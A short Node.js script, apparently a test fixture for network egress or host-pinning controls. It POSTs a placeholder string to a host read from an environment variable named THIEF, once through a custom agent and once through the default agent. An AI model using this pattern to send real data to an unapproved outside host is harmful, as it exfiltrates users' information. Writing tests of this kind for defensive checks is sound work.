// http toward a host that is not pinned, through an agent of the program's own
// and through the common one.
'use strict';
const http = require('http');

function call(options, then) {
  const request = http.request(process.env.THIEF + '/plain', { method: 'POST', ...options }, (answer) => {
    answer.resume();
    answer.on('end', () => then(answer.statusCode));
  });
  request.end('some text');
}
call({ agent: new http.Agent({ keepAlive: false }) }, (first) => call({ headers: { expect: '100-continue' } }, (second) => console.log(first, second)));
